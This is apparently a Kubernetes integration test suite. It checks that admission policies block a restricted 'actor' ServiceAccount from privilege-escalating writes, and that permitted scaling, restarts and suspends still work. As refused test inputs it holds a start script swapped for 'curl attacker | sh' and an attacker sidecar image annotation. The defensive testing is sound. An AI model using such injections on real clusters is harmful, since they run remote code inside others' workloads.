"""The actor's grants close their chains: the API server holds each write to its fields.

config/admission/actor-limits.yaml and actor-replicas.yaml are installed by the local
control plane; config/rbac/steps.yaml is applied to a fresh namespace as a namespace admin
would. Every write below is made with the actor's own ServiceAccount token and nothing
else, as an act step makes it; each refused write is one link of a chain that RBAC alone
let through (the garbage collector, a sidecar injector, a StatefulSet deleting volumes, a
start script read from a ConfigMap).
"""

from __future__ import annotations

import uuid
from collections.abc import Callable
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.exceptions import ApiException

from tests.cluster.test_admission import (
    ACTOR,
    OBSERVER,
    _typechecked,
    can_i,
    deployment,
    refused,
)
from tests.support.accounts import client_with_token, token
from tests.support.cluster_fixtures import OWN_RUNNER_LABEL, wait_for

pytestmark = pytest.mark.cluster

WRITABLE = "goalkeeper.dev/actor-writable"
STEP = "goalkeeper.dev/step"
RESTARTED_AT = "kubectl.kubernetes.io/restartedAt"
POLICIES = {
    "goalkeeper-actor-templates",
    "goalkeeper-actor-workloads",
    "goalkeeper-actor-jobs",
    "goalkeeper-actor-configmaps",
    "goalkeeper-actor-metadata",
    "goalkeeper-actor-pods",
    "goalkeeper-actor-replicas",
}


def until_refused(write: Callable[[], Any], needle: str) -> None:
    """Policies take effect once the API server has loaded them: a dry run shows when."""

    def active() -> bool:
        try:
            write()
        except ApiException as error:
            return error.status in (403, 422) and needle in str(error.body)
        return False

    wait_for(active, 60, f"the refusal {needle!r}")


def config_map(name: str, labels: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "metadata": {"name": name, "labels": labels or {}},
        "data": {"start.sh": "exec web --port 8080\n"},
    }


def web_with_script(name: str, replicas: int) -> dict[str, Any]:
    """A Deployment that runs ConfigMap `script` as its start script."""
    body = deployment(name)
    body["spec"]["replicas"] = replicas
    pod = body["spec"]["template"]["spec"]
    pod["containers"][0]["command"] = ["sh", "/script/start.sh"]
    pod["containers"][0]["volumeMounts"] = [{"name": "script", "mountPath": "/script"}]
    pod["volumes"] = [{"name": "script", "configMap": {"name": "script"}}]
    return body


def job(name: str, labels: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "metadata": {"name": name, "labels": labels or {}},
        "spec": {
            "suspend": True,
            "backoffLimit": 1,
            "template": {
                "metadata": {"labels": {OWN_RUNNER_LABEL: "own", **(labels or {})}},
                "spec": {
                    "restartPolicy": "Never",
                    "containers": [{"name": "c", "image": "batch:1"}],
                },
            },
        },
    }


def template_annotation(key: str, value: str) -> dict[str, Any]:
    return {"spec": {"template": {"metadata": {"annotations": {key: value}}}}}


def test_actor_limit_policies_load_without_type_errors(control_plane: Any) -> None:
    done = control_plane.kubectl(
        "get", "validatingadmissionpolicies", "-o", "jsonpath={.items[*].metadata.name}"
    )
    assert set(done.stdout.split()) >= POLICIES
    for name in sorted(POLICIES):
        status = wait_for(
            lambda name=name: _typechecked(control_plane, name), 60, f"{name} type checking"
        )
        assert status == "ok", (name, status)


def test_actor_grants_are_patch_only(control_plane: Any, ns: str) -> None:
    for verb, resource in [
        ("update", "configmaps"),
        ("update", "deployments.apps/scale"),
        ("update", "statefulsets.apps/scale"),
        ("update", "jobs.batch"),
        ("update", "daemonsets.apps"),
        ("update", "cronjobs.batch"),
    ]:
        assert not can_i(control_plane, ns, ACTOR, verb, resource), (verb, resource)
    for verb, resource in [
        ("patch", "configmaps"),
        ("patch", "deployments.apps/scale"),
        ("patch", "statefulsets.apps/scale"),
        ("patch", "daemonsets.apps"),
        ("patch", "cronjobs.batch"),
    ]:
        assert can_i(control_plane, ns, ACTOR, verb, resource), (verb, resource)


def test_deployment_chains_are_refused_and_restart_and_scale_still_work(
    api_client: Any, ns: str, actor: Any
) -> None:
    apps, core = client.AppsV1Api(api_client), client.CoreV1Api(api_client)
    core.create_namespaced_config_map(ns, config_map("script"))
    apps.create_namespaced_deployment(ns, web_with_script("web", 0))
    act = client.AppsV1Api(actor)

    def patch(body: dict[str, Any], **kw: Any) -> Any:
        return act.patch_namespaced_deployment("web", ns, body, **kw)

    dangling = {
        "metadata": {
            "ownerReferences": [
                {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": str(uuid.uuid4())}
            ]
        }
    }
    until_refused(lambda: patch(dangling, dry_run="All"), "ownerReferences")
    # A dangling owner: the garbage collector would delete the Deployment.
    assert "metadata.ownerReferences" in refused(lambda: patch(dangling))
    # A finalizer: the Deployment could no longer be deleted.
    hold = {"metadata": {"finalizers": ["example.com/hold"]}}
    assert "metadata.finalizers" in refused(lambda: patch(hold))
    assert "labels" in refused(lambda: patch({"metadata": {"labels": {"x": "1"}}}))
    assert "annotations" in refused(lambda: patch({"metadata": {"annotations": {"x": "1"}}}))
    # Sidecar injectors take their image and mounts from the pod template's annotations.
    for key, value in [
        ("sidecar.istio.io/proxyImage", "attacker/proxy:1"),
        ("vault.hashicorp.com/agent-inject-secret-db", "secret/db"),
    ]:
        said = refused(lambda key=key, value=value: patch(template_annotation(key, value)))
        assert "no pod template annotation but kubectl.kubernetes.io/restartedAt" in said
    said = refused(lambda: patch({"spec": {"paused": True}}))
    assert "may change only spec.replicas" in said

    # The actions the actor exists for: scale within the bound, rollout restart.
    patch({"spec": {"replicas": 2}})
    assert apps.read_namespaced_deployment("web", ns).spec.replicas == 2
    apps.patch_namespaced_deployment("web", ns, {"spec": {"replicas": 3}})
    act.patch_namespaced_deployment_scale("web", ns, {"spec": {"replicas": 12}})
    assert apps.read_namespaced_deployment("web", ns).spec.replicas == 12
    patch(template_annotation(RESTARTED_AT, "2030-01-01T00:00:00Z"))

    # Scale to 500, by the spec and by the scale subresource (an autoscaling/v1 Scale).
    said = refused(lambda: patch({"spec": {"replicas": 500}}))
    assert "may scale from 12 to at most 20 replicas, not 500" in said
    said = refused(
        lambda: act.patch_namespaced_deployment_scale("web", ns, {"spec": {"replicas": 500}})
    )
    assert "may scale from 12 to at most 20 replicas, not 500" in said
    act.patch_namespaced_deployment_scale("web", ns, {"spec": {"replicas": 1}})

    stored = apps.read_namespaced_deployment("web", ns)
    assert stored.spec.replicas == 1
    assert not stored.metadata.owner_references and not stored.metadata.finalizers
    assert stored.spec.template.metadata.annotations == {RESTARTED_AT: "2030-01-01T00:00:00Z"}


def test_statefulset_volumes_policy_is_never_the_actors(
    api_client: Any, ns: str, actor: Any
) -> None:
    apps = client.AppsV1Api(api_client)
    labels = {"app": "db", OWN_RUNNER_LABEL: "own"}
    apps.create_namespaced_stateful_set(
        ns,
        {
            "metadata": {"name": "db"},
            "spec": {
                "replicas": 1,
                "serviceName": "db",
                "selector": {"matchLabels": {"app": "db"}},
                "template": {
                    "metadata": {"labels": labels},
                    "spec": {"containers": [{"name": "db", "image": "db:1"}]},
                },
            },
        },
    )
    act = client.AppsV1Api(actor)
    delete_on_scale = {"spec": {"persistentVolumeClaimRetentionPolicy": {"whenScaled": "Delete"}}}
    until_refused(
        lambda: act.patch_namespaced_stateful_set("db", ns, delete_on_scale, dry_run="All"),
        "persistentVolumeClaimRetentionPolicy",
    )
    said = refused(lambda: act.patch_namespaced_stateful_set("db", ns, delete_on_scale))
    assert "may not change a StatefulSet's persistentVolumeClaimRetentionPolicy" in said
    said = refused(
        lambda: act.patch_namespaced_stateful_set_scale("db", ns, {"spec": {"replicas": 500}})
    )
    assert "may scale from 1 to at most 5 replicas, not 500" in said
    act.patch_namespaced_stateful_set_scale("db", ns, {"spec": {"replicas": 5}})
    assert apps.read_namespaced_stateful_set("db", ns).spec.replicas == 5


def test_jobs_only_suspend_and_resume_and_never_step_jobs(
    api_client: Any, ns: str, actor: Any
) -> None:
    batch = client.BatchV1Api(api_client)
    batch.create_namespaced_job(ns, job("batch"))
    batch.create_namespaced_job(ns, job("mon-3-act-abcde", {STEP: "mon-3-act-abcde"}))
    act = client.BatchV1Api(actor)

    more_retries = {"spec": {"backoffLimit": 100}}
    until_refused(
        lambda: act.patch_namespaced_job("batch", ns, more_retries, dry_run="All"),
        "only spec.suspend",
    )
    said = refused(lambda: act.patch_namespaced_job("batch", ns, more_retries))
    assert "The goalkeeper actor may change only spec.suspend of a Job or CronJob." in said
    said = refused(
        lambda: act.patch_namespaced_job("batch", ns, {"spec": {"activeDeadlineSeconds": 1}})
    )
    assert "only spec.suspend" in said
    said = refused(
        lambda: act.patch_namespaced_job("batch", ns, {"metadata": {"labels": {"team": "x"}}})
    )
    assert "may not change an object's labels" in said
    # Nor make a Job look like a step's (the first refusal found is the one reported).
    said = refused(
        lambda: act.patch_namespaced_job("batch", ns, {"metadata": {"labels": {STEP: "x"}}})
    )
    assert "The goalkeeper actor may not" in said

    act.patch_namespaced_job("batch", ns, {"spec": {"suspend": False}})
    assert batch.read_namespaced_job("batch", ns).spec.suspend is False
    act.patch_namespaced_job("batch", ns, {"spec": {"suspend": True}})
    assert batch.read_namespaced_job("batch", ns).spec.suspend is True
    assert batch.read_namespaced_job("batch", ns).spec.backoff_limit == 1

    # goalkeeper's own step Jobs: not even their suspend.
    said = refused(
        lambda: act.patch_namespaced_job("mon-3-act-abcde", ns, {"spec": {"suspend": False}})
    )
    assert "own step Jobs" in said


def test_cronjobs_only_suspend_and_daemonsets_only_a_restart(
    api_client: Any, ns: str, actor: Any
) -> None:
    batch, apps = client.BatchV1Api(api_client), client.AppsV1Api(api_client)
    pod = job("x")["spec"]["template"]
    batch.create_namespaced_cron_job(
        ns,
        {
            "metadata": {"name": "export"},
            "spec": {"schedule": "0 2 * * *", "jobTemplate": {"spec": {"template": pod}}},
        },
    )
    labels = {"app": "agent"}
    apps.create_namespaced_daemon_set(
        ns,
        {
            "metadata": {"name": "agent"},
            "spec": {
                "selector": {"matchLabels": labels},
                "template": {
                    "metadata": {"labels": labels},
                    "spec": {**pod["spec"], "restartPolicy": "Always"},
                },
            },
        },
    )
    act, act_apps = client.BatchV1Api(actor), client.AppsV1Api(actor)
    hourly = {"spec": {"schedule": "0 * * * *"}}
    until_refused(
        lambda: act.patch_namespaced_cron_job("export", ns, hourly, dry_run="All"),
        "only spec.suspend",
    )
    said = refused(lambda: act.patch_namespaced_cron_job("export", ns, hourly))
    assert "The goalkeeper actor may change only spec.suspend of a Job or CronJob." in said
    act.patch_namespaced_cron_job("export", ns, {"spec": {"suspend": True}})
    cron = batch.read_namespaced_cron_job("export", ns)
    assert cron.spec.suspend is True and cron.spec.schedule == "0 2 * * *"

    act_apps.patch_namespaced_daemon_set("agent", ns, template_annotation(RESTARTED_AT, "now"))
    stamped = apps.read_namespaced_daemon_set("agent", ns).spec.template.metadata.annotations
    assert stamped == {RESTARTED_AT: "now"}
    said = refused(
        lambda: act_apps.patch_namespaced_daemon_set("agent", ns, {"spec": {"minReadySeconds": 30}})
    )
    assert "The goalkeeper actor may change only spec.replicas" in said


def test_configmaps_only_the_data_of_labelled_ones(api_client: Any, ns: str, actor: Any) -> None:
    core = client.CoreV1Api(api_client)
    core.create_namespaced_config_map(ns, config_map("script"))
    client.AppsV1Api(api_client).create_namespaced_deployment(ns, web_with_script("web", 1))
    core.create_namespaced_config_map(ns, config_map("tuning", {WRITABLE: "true"}))
    act = client.CoreV1Api(actor)
    evil = {"data": {"start.sh": "curl attacker | sh\n"}}

    until_refused(
        lambda: act.patch_namespaced_config_map("script", ns, evil, dry_run="All"), WRITABLE
    )
    # The Deployment's start script: unlabelled, so not the actor's.
    said = refused(lambda: act.patch_namespaced_config_map("script", ns, evil))
    assert f"may write only ConfigMaps a namespace admin labelled {WRITABLE}=true" in said
    # Nor can the actor label one writable, or unlabel or label the one it may write.
    relabel = {"metadata": {"labels": {WRITABLE: "true"}}}
    said = refused(lambda: act.patch_namespaced_config_map("script", ns, relabel))
    assert "The goalkeeper actor may" in said
    for labels in ({WRITABLE: None}, {"team": "web"}):
        said = refused(
            lambda labels=labels: act.patch_namespaced_config_map(
                "tuning", ns, {"metadata": {"labels": labels}}
            )
        )
        assert "may not change an object's labels" in said
    said = refused(lambda: act.patch_namespaced_config_map("tuning", ns, {"immutable": True}))
    assert "only data and binaryData" in said

    act.patch_namespaced_config_map("tuning", ns, {"data": {"threads": "8"}})
    assert core.read_namespaced_config_map("tuning", ns).data["threads"] == "8"
    assert core.read_namespaced_config_map("script", ns).data == config_map("script")["data"]


def test_namespace_params_lower_the_scale_bound(api_client: Any, ns: str, actor: Any) -> None:
    apps, core = client.AppsV1Api(api_client), client.CoreV1Api(api_client)
    apps.create_namespaced_deployment(ns, web_with_script("web", 3))
    limits = {"metadata": {"name": "goalkeeper-actor-limits", "labels": {WRITABLE: "true"}}}
    core.create_namespaced_config_map(ns, {**limits, "data": {"maxReplicas": "6"}})
    act = client.AppsV1Api(actor)

    def scale(replicas: int, **kw: Any) -> Any:
        return act.patch_namespaced_deployment_scale(
            "web", ns, {"spec": {"replicas": replicas}}, **kw
        )

    until_refused(lambda: scale(12, dry_run="All"), "maxReplicas 6")
    said = refused(lambda: scale(12))
    assert "may scale from 3 to at most 6 replicas, not 12" in said
    assert "from ConfigMap goalkeeper-actor-limits" in said
    scale(6)
    assert apps.read_namespaced_deployment("web", ns).spec.replicas == 6

    # Its own bound is never the actor's to raise, labelled writable or not.
    raise_it = {"data": {"maxReplicas": "500"}}
    said = refused(
        lambda: client.CoreV1Api(actor).patch_namespaced_config_map(
            "goalkeeper-actor-limits", ns, raise_it
        )
    )
    assert "may not change its own limits" in said

    # A bound that is not a number fails closed: no scale up at all, a scale down still.
    core.patch_namespaced_config_map("goalkeeper-actor-limits", ns, {"data": {"maxReplicas": "x"}})
    until_refused(lambda: scale(7, dry_run="All"), "not a whole number")
    scale(2)
    # Above the default the ConfigMap cannot go: the default binding holds too.
    core.patch_namespaced_config_map(
        "goalkeeper-actor-limits", ns, {"data": {"maxReplicas": "100"}}
    )
    apps.patch_namespaced_deployment("web", ns, {"spec": {"replicas": 10}})
    wait_for(lambda: scale(20, dry_run="All"), 60, "the raised maxReplicas to be read")
    said = refused(lambda: scale(25))
    assert "may scale from 10 to at most 20 replicas, not 25" in said and "the default" in said
    scale(20)


def test_step_pods_stay_and_observer_is_held_alike(
    control_plane: Any, api_client: Any, ns: str, actor: Any
) -> None:
    batch, core = client.BatchV1Api(api_client), client.CoreV1Api(api_client)
    name = "mon-1-observe-abcde"
    step_job = job(name, {STEP: name})
    step_job["spec"]["suspend"] = False
    batch.create_namespaced_job(ns, step_job)
    pod = wait_for(
        lambda: next(
            iter(core.list_namespaced_pod(ns, label_selector=f"job-name={name}").items), None
        ),
        60,
        "the step Job's pod",
    )
    core.patch_namespaced_pod_status(pod.metadata.name, ns, {"status": {"phase": "Failed"}})
    act = client.CoreV1Api(actor)
    until_refused(
        lambda: act.delete_namespaced_pod(pod.metadata.name, ns, dry_run="All"), "step pods"
    )
    said = refused(lambda: act.delete_namespaced_pod(pod.metadata.name, ns))
    assert "may not delete goalkeeper's own step pods" in said

    # A namespace admin who lets the observer patch ConfigMaps still cannot let it relabel.
    core.create_namespaced_config_map(ns, config_map("notes", {WRITABLE: "true"}))
    control_plane.kubectl(
        "create", "role", "observer-notes", "--verb=patch", "--resource=configmaps",
        "-n", ns, check=True,
    )  # fmt: skip
    control_plane.kubectl(
        "create", "rolebinding", "observer-notes", "--role=observer-notes",
        f"--serviceaccount={ns}:{OBSERVER}", "-n", ns, check=True,
    )  # fmt: skip
    observer = client_with_token(control_plane, token(api_client, ns, OBSERVER))
    try:
        relabel = {"metadata": {"labels": {"x": "1"}}}
        wait_for(lambda: can_i(control_plane, ns, OBSERVER, "patch", "configmaps"), 30, "the grant")
        said = refused(
            lambda: client.CoreV1Api(observer).patch_namespaced_config_map("notes", ns, relabel)
        )
        assert "may not change an object's labels" in said
    finally:
        observer.close()


def test_namespace_opt_out_lifts_the_limits(api_client: Any, ns: str, actor: Any) -> None:
    apps, core = client.AppsV1Api(api_client), client.CoreV1Api(api_client)
    apps.create_namespaced_deployment(ns, web_with_script("web", 1))
    act = client.AppsV1Api(actor)
    proxy = template_annotation("sidecar.istio.io/proxyImage", "mesh/proxy:2")
    until_refused(
        lambda: act.patch_namespaced_deployment("web", ns, proxy, dry_run="All"), "annotation"
    )
    core.patch_namespace(ns, {"metadata": {"labels": {"goalkeeper.dev/actor-limits": "off"}}})

    def allowed() -> bool:
        try:
            act.patch_namespaced_deployment("web", ns, proxy)
        except ApiException:
            return False
        return True

    wait_for(allowed, 60, "the opt-out label to lift the limits")
